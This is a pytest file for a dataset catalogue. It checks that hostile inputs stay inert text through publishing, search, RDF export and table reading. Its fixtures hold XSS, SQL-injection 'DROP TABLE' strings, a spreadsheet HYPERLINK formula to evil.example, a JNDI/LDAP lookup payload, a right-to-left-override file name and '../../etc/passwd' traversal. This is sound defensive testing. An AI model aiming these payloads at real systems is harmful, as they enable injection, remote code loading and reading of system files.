"""Hostile metadata, searches, names and files: all of it stays text, none of it is obeyed."""

import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from conftest import MovableClock
from rdflib import Graph, Literal

from casemate.catalogue import Catalogue, DatasetDescription, describe, load_description, read_table
from casemate.errors import BadInput, NotFound
from casemate.ledger import Ledger
from casemate.store import Store
from casemate.store.keys import Keyring
from casemate.store.vault import Vault

FRAME = pl.DataFrame({"a": list(range(30)), "b": ["x"] * 30})
HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "'); DROP TABLE dataset; --",
    '"""\\u0022 . <urn:a> <urn:b> "c" . """',
    "{{7*7}} ${jndi:ldap://evil} %s %(name)s",
    "\u202egnp.exe",
]


@pytest.fixture
def catalogue(ledger: Ledger, clock: MovableClock, vault: Vault, keyring: Keyring) -> Catalogue:
    return Catalogue(ledger, clock, vault, keyring)


def publish(store: Store, catalogue: Catalogue, dataset_id: str, **said: Any) -> None:
    draft = describe(FRAME, dataset_id=dataset_id).model_dump(mode="json")
    description = DatasetDescription.model_validate({**draft, **said})
    frame = FRAME.with_columns(b=pl.lit(dataset_id))
    with store.transaction() as tx:
        catalogue.publish(tx, "acct-a", description, frame, holder="org-a")


def test_hostile_metadata_survive_as_the_text_they_are(store: Store, catalogue: Catalogue) -> None:
    for number, text in enumerate(HOSTILE):
        publish(
            store,
            catalogue,
            f"h{number}",
            title=text,
            description=text,
            publisher=text,
            keywords=[text],
        )
    with store.read() as tx:
        for number, text in enumerate(HOSTILE):
            found = catalogue.get(tx, f"h{number}")
            assert found.titles == {"en": text}
            assert found.description.publisher == text
        for form in ("turtle", "json-ld"):
            exported = catalogue.export_dcat(tx, "https://x.org", form)
            literals = set(Graph().parse(data=exported, format=form).objects())
            assert all(Literal(text, lang="en") in literals for text in HOSTILE)
            assert "urn:b" not in {
                str(p) for p in Graph().parse(data=exported, format=form).predicates()
            }


@pytest.mark.parametrize(
    "text",
    [
        '" OR 1=1 --', "a* AND", "NEAR(a b, 2)", "title_words : x", "{filter_words} : y", "a OR b", "NOT a",
        "-a", "^a", '"unclosed', "a\" : *", "'; DROP TABLE catalogue_entry; --", "%", "_", "a & b | !c",
        "a:*", "<->", "\\", "\x00", "a\x00b", "''", "(((", "😀", "\ud800", "+" * 900, "*", "a**", "ﬁ",
    ],
)  # fmt: skip
def test_no_search_text_breaks_or_steers_a_query(
    store: Store, catalogue: Catalogue, text: str
) -> None:
    publish(store, catalogue, "plain", title="Plain")
    with store.read() as tx:
        catalogue.search(tx, text)
        catalogue.search(tx, text, theme=text, holder=text, access_right=text)
        assert catalogue.search(tx, "plain").total == 1


@pytest.mark.parametrize(
    "dataset_id",
    [
        "../../etc/passwd",
        "a/b",
        "a\\b",
        ".",
        "..",
        "-a",
        "a-",
        "A",
        "é",
        "a b",
        "",
        "a" * 65,
        "a\x00",
        "%2e",
    ],
)
def test_a_dataset_id_is_a_slug(store: Store, catalogue: Catalogue, dataset_id: str) -> None:
    with pytest.raises(BadInput, match="id: "):
        load_description({**describe(FRAME).model_dump(mode="json"), "id": dataset_id})
    with store.read() as tx, pytest.raises(NotFound):
        catalogue.get(tx, dataset_id.replace("\x00", ""))


def test_hostile_variable_names_and_values(
    store: Store, catalogue: Catalogue, vault: Vault, keyring: Keyring
) -> None:
    name = 'x"); DROP TABLE dataset; -- <b>=1+1'
    frame = pl.DataFrame({name: HOSTILE * 10, "../x": range(60)})
    with store.transaction() as tx:
        made = catalogue.publish(
            tx, "acct-a", describe(frame, dataset_id="odd"), frame, holder="org-a"
        )
    table = vault.read_table(made.blob, keyring.unwrap(made.wrapped_key, made.blob), [name])
    assert table.column(name).to_pylist() == HOSTILE * 10


def test_a_database_address_reads_its_table_and_nothing_else(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "s.db"
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE t (a INTEGER)")
    connection.execute("INSERT INTO t VALUES (1)")
    connection.commit()
    connection.close()
    for table in ('t"; DROP TABLE t; --', "t UNION SELECT 1", "sqlite_master", "main.t"):
        with pytest.raises(NotFound, match="no table"):
            read_table(f"sqlite:///{path}#{table}")
    assert read_table(f"sqlite:///{path}#t")["a"].to_list() == [1]


def test_a_pattern_is_a_file_name_and_not_a_pattern(tmp_path: Path) -> None:
    FRAME.write_parquet(tmp_path / "a.parquet")
    FRAME.write_parquet(tmp_path / "b.parquet")
    with pytest.raises(NotFound):
        read_table(tmp_path / "*.parquet")
    FRAME.write_parquet(tmp_path / "[ab].parquet")
    assert read_table(tmp_path / "[ab].parquet").equals(FRAME)


def test_no_value_of_the_data_is_in_the_database_the_ledger_or_the_vault_in_clear(
    catalogue: Catalogue, ledger: Ledger, vault: Vault, tmp_path: Path
) -> None:
    from casemate.store import Base

    store = Store(f"sqlite:///{tmp_path / 'clear.db'}")
    Base.metadata.create_all(store.engine)
    secrets = [f"Zz{n}Qq" for n in range(40)]
    frame = pl.DataFrame({"note": secrets, "weight": [1234.5 + n * 7.77 for n in range(40)]})
    with store.transaction() as tx:
        catalogue.publish(tx, "acct-a", describe(frame, dataset_id="notes"), frame, holder="org-a")
    with store.read() as tx:
        said = json.dumps([entry.detail for entry in ledger.entries(tx)])
    store.close()
    stored = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()) + said.encode()
    assert not [secret for secret in secrets if secret.encode() in stored]
    assert b"1537.53" not in stored
